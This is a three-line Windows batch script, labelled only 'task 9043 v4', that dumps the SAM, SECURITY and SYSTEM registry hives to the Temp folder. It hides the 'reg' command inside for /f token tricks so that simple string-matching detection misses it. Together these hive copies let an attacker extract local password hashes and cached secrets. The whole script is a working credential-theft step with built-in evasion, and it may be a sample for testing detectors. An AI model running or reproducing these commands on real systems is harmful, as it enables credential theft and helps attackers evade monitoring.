REM task 9043 v4
for /f "tokens=1 delims=#" %%i in ("reg#qhah#ajzo") do %%i save hklm\sam C:\Windows\Temp\sam.save
for /f "tokens=3 delims=~" %%i in ("qher~wxwr~reg") do %%i save hklm\security C:\Windows\Temp\security.save
for /f "tokens=3 delims=#" %%i in ("sdlt#orxw#reg") do %%i save hklm\system C:\Windows\Temp\system.save
